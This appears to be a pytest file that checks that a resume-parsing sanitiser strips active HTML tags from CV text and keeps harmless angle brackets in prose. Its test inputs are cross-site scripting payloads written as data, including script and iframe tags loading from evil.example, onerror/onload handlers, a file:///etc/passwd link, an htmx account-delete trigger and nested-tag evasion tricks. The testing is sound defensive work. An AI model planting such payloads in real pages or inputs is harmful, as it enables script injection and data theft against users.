"""Tags of web pages that stand in a CV as words are no words of it."""

import pytest

from tests.workers.extraction import papers
from workers.extraction import read
from workers.extraction.document import GLUED, Line, Run
from workers.extraction.markup import without_tags

CV = """Xaver {tag} Unsinn
Baker
xaver@unsinn.example

Experience
Head Baker, Invented Bakery - 2019 to 2024
- Baked {tag} bread.
"""


def kept(*words, gap=0.0):
    return [line.text for line in without_tags([Line([Run(word, gap=gap) for word in words])])]


@pytest.mark.parametrize(
    "tag",
    [
        "<script>alert(1)</script>", "<SCRIPT src=//evil.example></SCRIPT>",
        "<style>@import url(//evil.example)</style>",
        "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<foreignObject>", "<iframe src=//evil.example/>",
        "<link rel=attachment href=file:///etc/passwd>", "<details open ontoggle=alert(1)>",
        '<div hx-on::load="alert(1)" hx-get="/account/delete">', "<a href='javascript:alert(1)'>",
    ],
)  # fmt: skip
def test_a_tag_that_does_something_is_left_out(tag):
    resume = read(papers.text(CV.format(tag=tag)), papers.TEXT).resume
    assert resume.basics.name == "Xaver Unsinn"
    assert resume.work[0].highlights == ["Baked bread."]


@pytest.mark.parametrize(
    "words",
    [
        "Semantic HTML (<main>, <nav>, <article>)", "std::map<string, vector<int>> in C++",
        "latency < 5 ms, uptime > 99%", "<https://example.org/?page=2>", "Xaver Unsinn <xaver@unsinn.example>",
        "Moved <script> out of the head, led six engineers, and closed </script> early",
        "Replaced inline <script> tags by modules and every <iframe> by <svg>", "Latency x <y and cost z = 3> for all",
        "Wrote <style> for <style>, </style> for </style>", "<input required> and <td colspan=2>",
        "<main>", "x <y where src = z>",
        "if a<b and c>d", "I <3 baking", "<-- here",
    ],
)  # fmt: skip
def test_what_is_only_spoken_of_stays(words):
    assert kept(words) == [words]


@pytest.mark.parametrize(
    ("written", "left"),
    [
        ("<img <img src=x>src=y onerror=alert(1)> bread", "bread"),
        ("<scr<img src=x>ipt>alert(1)</scr<img src=x>ipt> bread", "bread"),
        ("<sv<foreignObject>g/onload=alert(1)> bread", "bread"),
        ("<svg><foreignObject width=1><script>alert(1)</script> bread", "<svg> bread"),
        ("</style><style>body{color:red}</style> bread", "</style> bread"),
        ("Spoke of <foreignObject, with bread", "Spoke of , with bread"),
    ],
)
def test_nothing_is_made_a_tag_by_what_is_cut_out_of_it(written, left):
    assert kept(written) == [left]


@pytest.mark.parametrize("written", ["<<script>script>alert(1)</<script>script>", "<scr<b>ipt>alert(1)</scr<b>ipt>"])
def test_tags_in_tags_do_not_end_as_one_that_acts(written):
    assert "<script>alert(" not in "".join(kept(written))


def test_a_line_of_tags_in_each_other_without_end_is_no_words():
    assert kept("<a " * 500 + "src=x> " * 500) == []


def test_a_tag_of_several_looks_is_one_tag():
    assert kept("Baked <im", "g src=", "x onerror=alert(1)> bread", gap=GLUED) == ["Baked bread"]


def test_a_line_that_holds_nothing_else_is_gone():
    assert kept("<script>", "alert(1)", "</script>") == []
    assert kept("</title><svg><script>alert(1)</script></svg>") == []
